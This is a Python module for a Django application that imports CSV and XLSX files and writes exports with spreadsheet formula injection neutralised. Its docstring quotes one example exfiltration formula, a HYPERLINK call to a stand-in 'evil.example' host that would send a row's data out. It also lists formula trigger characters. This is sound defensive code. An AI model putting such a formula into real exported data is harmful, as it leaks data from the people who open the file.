"""Tabular files in and out: reading CSV or XLSX for imports (every cell comes back as text),
and writing CSV or XLSX for exports, with formula injection neutralised.

Formula injection: a cell whose text starts with "=", "+", "-", "@", a tab or a carriage
return is run as a formula by spreadsheet applications (a name typed as
``=HYPERLINK("http://evil.example/?"&A1)`` would send the row away when the file is opened).
Every export therefore goes through `write_table` (one table), `xlsx_workbook` (several
sheets), `csv_writer` (CSV to a stream) or `xlsx_append`:

- CSV: such a value is written with a leading ``'``, which spreadsheets show as text;
- XLSX: every text is written as a string cell, never as a formula, and such a value also
  carries the "quote prefix" style, so that editing the cell keeps it text. The value itself
  is unchanged.

Numbers, dates and empty values stay typed. On import, one leading ``'`` before one of those
characters is taken off again (`read_table`), so that an exported file, or a CSV export
re-saved by a spreadsheet, imports back to the values it came from; a value that really
begins with ``'=`` cannot be told from a neutralised one and loses its quote."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Collection, Iterable, Iterator
from datetime import date, datetime, time
from decimal import Decimal
from typing import IO, Any

from django.utils import timezone
from django.utils.translation import gettext as _

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBERS = int | float | Decimal


class ImportFileError(Exception):
    """The file cannot be read at all."""


# Reading


def read_table(name: str, stream: IO[bytes]) -> tuple[list[str], list[dict[str, str]]]:
    """Headers and non-empty rows of a CSV (UTF-8, comma or semicolon) or XLSX file, as text."""
    header, rows = read_rows(name, stream)
    table = []
    for _number, values in rows:
        if any(values):
            table.append({h: value for h, value in zip(header, values, strict=False) if h})
    return header, table


def read_rows(
    name: str, stream: IO[bytes], *, columns: Collection[str] = ()
) -> tuple[list[str], Iterator[tuple[int, list[str]]]]:
    """The header (row 1) and every later row with the number a spreadsheet shows for it,
    empty rows included, each cell as text. A workbook is read from its sheet whose first
    row names the most `columns` (the first sheet when none does): the toolkits that ship
    a template put their lists and notes on other sheets, in any order."""
    lowered = name.lower()
    # A macro-enabled workbook (the HTCDS toolkit's multi-select template) is read for its
    # cells only: openpyxl never runs its macros.
    if lowered.endswith((".xlsx", ".xlsm")):
        return _xlsx_rows(stream, columns)
    if lowered.endswith(".csv"):
        return _csv_rows(stream)
    raise ImportFileError(_("Upload a .csv or .xlsx file."))


def _xlsx_rows(
    stream: IO[bytes], columns: Collection[str]
) -> tuple[list[str], Iterator[tuple[int, list[str]]]]:
    from openpyxl import load_workbook  # heavy: loaded for workbooks only

    try:
        workbook = load_workbook(stream, read_only=True, data_only=True)
    except Exception as error:
        raise ImportFileError(_("This is not a readable XLSX file.")) from error
    sheet = _sheet_naming(workbook.worksheets, set(columns))
    rows_iter = sheet.iter_rows(values_only=True)
    header = [_cell_text(h) for h in next(rows_iter, None) or ()]

    def rows() -> Iterator[tuple[int, list[str]]]:
        for number, values in enumerate(rows_iter, start=2):
            yield number, [_cell_text(x) for x in values or ()]

    return header, rows()


def _sheet_naming(sheets: list[Any], columns: set[str]) -> Any:
    best, best_count = sheets[0], 0
    if columns:
        for sheet in sheets:
            first = next(sheet.iter_rows(max_row=1, values_only=True), None) or ()
            count = sum(1 for h in first if isinstance(h, str) and h.strip() in columns)
            if count > best_count:
                best, best_count = sheet, count
    return best


def _csv_rows(stream: IO[bytes]) -> tuple[list[str], Iterator[tuple[int, list[str]]]]:
    try:
        text = stream.read().decode("utf-8-sig")
    except UnicodeDecodeError as error:
        raise ImportFileError(_("The CSV file must be encoded in UTF-8.")) from error
    # Only the delimiter is guessed (comma, semicolon or tab, from the header line); the
    # quoting rules stay the standard ones ("" inside a quoted cell is one quote).
    first_line = _FIRST_LINE.match(text).group()
    delimiter = max(",;\t", key=first_line.count) if first_line else ","
    # Records are parsed as they are asked for, so that an import holds one row at a time
    # besides the text; a malformed record fails where it is met (an import checks every
    # row before it writes one). A record that spans lines (a quoted line break) is one
    # spreadsheet row.
    records = csv.reader(_lines(text), delimiter=delimiter)
    try:
        first = next(records, None)
    except csv.Error as error:
        raise _unreadable(error) from error
    if first is None:
        return [], iter(())
    header = [_clean(h) for h in first]

    def rows() -> Iterator[tuple[int, list[str]]]:
        try:
            for number, values in enumerate(records, start=2):
                yield number, [_clean(x) for x in values]
        except csv.Error as error:
            raise _unreadable(error) from error

    return header, rows()


# What str.splitlines() ends the first line at.
_FIRST_LINE = re.compile("[^\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029]*")


def _lines(text: str) -> Iterator[str]:
    """The lines of `text`, each up to and with its "\n", one at a time: what iterating
    io.StringIO(text) gives the csv module, without the copy four times the text's size that
    io.StringIO holds."""
    start, size = 0, len(text)
    while start < size:
        end = text.find("\n", start)
        end = size if end < 0 else end + 1
        yield text[start:end]
        start = end


def _unreadable(error: csv.Error) -> ImportFileError:
    return ImportFileError(_("This CSV file cannot be read: %(error)s") % {"error": error})


def _clean(text: str) -> str:
    """A cell as text: no NUL characters (PostgreSQL refuses them), no surrounding spaces,
    and the quote an export put before a formula character taken off again."""
    text = text.replace("\x00", "").strip()
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:].strip()
    return text


def _cell_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, date):
        return value.isoformat()[:10]
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return _clean(str(value))


# Writing


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet read this text as a formula?"""
    return text.startswith(FORMULA_TRIGGERS)


def csv_cell(value: Any) -> Any:
    """One value as a CSV cell: numbers as they are, dates in ISO 8601, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, _NUMBERS):
        return value
    if isinstance(value, datetime):
        return _naive(value).isoformat(sep=" ", timespec="seconds")
    if isinstance(value, date | time):
        return value.isoformat()
    text = str(value)
    return QUOTE + text if is_formula_like(text) else text


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `csv_cell`."""

    def __init__(self, output: IO[str], **options: Any) -> None:
        self._writer = csv.writer(output, **options)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def csv_writer(output: IO[str], **options: Any) -> SafeCsvWriter:
    """A CSV writer for exports (same options as `csv.writer`)."""
    return SafeCsvWriter(output, **options)


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """One value for `sheet.append`: numbers and dates typed, text always a string cell."""
    if value is None or isinstance(value, bool | _NUMBERS):
        return value
    if isinstance(value, datetime):
        # Excel has no time zones (openpyxl refuses aware datetimes): local time.
        return _naive(value)
    if isinstance(value, date | time):
        return value
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, WriteOnlyCell  # workbooks only

    # Control characters are not allowed in the XML of a workbook (openpyxl would raise).
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    cell = WriteOnlyCell(sheet, value=text)
    # openpyxl types "=..." as a formula and "#N/A" as an error: always a string here.
    cell.data_type = "s"
    if is_formula_like(text):
        cell.quotePrefix = True
    return cell


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append(values)` for exports: use it instead of `append` on every sheet."""
    sheet.append([xlsx_cell(sheet, value) for value in values])


class SafeSheet:
    """A sheet of a `SafeWorkbook`: `append` neutralises the row (see `xlsx_append`)."""

    def __init__(self, sheet: Any) -> None:
        self._sheet = sheet

    def append(self, values: Iterable[Any]) -> None:
        xlsx_append(self._sheet, values)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._sheet, name)


class SafeWorkbook:
    """A write-only openpyxl workbook for exports whose sheets neutralise every row: a
    drop-in for ``Workbook(write_only=True)`` (create_sheet, append, save)."""

    def __init__(self) -> None:
        from openpyxl import Workbook  # heavy: loaded for workbooks only

        self._workbook = Workbook(write_only=True)

    def create_sheet(self, title: str | None = None) -> SafeSheet:
        return SafeSheet(self._workbook.create_sheet(title))

    def save(self, target: Any) -> None:
        self._workbook.save(target)

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self._workbook.save(buffer)
        return buffer.getvalue()


def xlsx_workbook() -> SafeWorkbook:
    """A workbook for an export of several sheets."""
    return SafeWorkbook()


def write_table(rows: Iterable[Iterable[Any]], fmt: str, *, sheet: str = "data") -> bytes:
    """The rows (the header first) as a CSV file (UTF-8 with a byte-order mark, which
    spreadsheets need to read accents) or an XLSX workbook of one sheet."""
    if fmt == "xlsx":
        workbook = xlsx_workbook()
        worksheet = workbook.create_sheet(sheet)
        for values in rows:
            worksheet.append(values)
        return workbook.to_bytes()
    if fmt != "csv":
        raise ValueError(f"Unknown table format: {fmt}")
    text = io.StringIO()
    csv_writer(text).writerows(rows)
    return ("\ufeff" + text.getvalue()).encode()


CONTENT_TYPES = {"csv": CSV_CONTENT_TYPE, "xlsx": XLSX_CONTENT_TYPE}


def _naive(value: datetime) -> datetime:
    return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
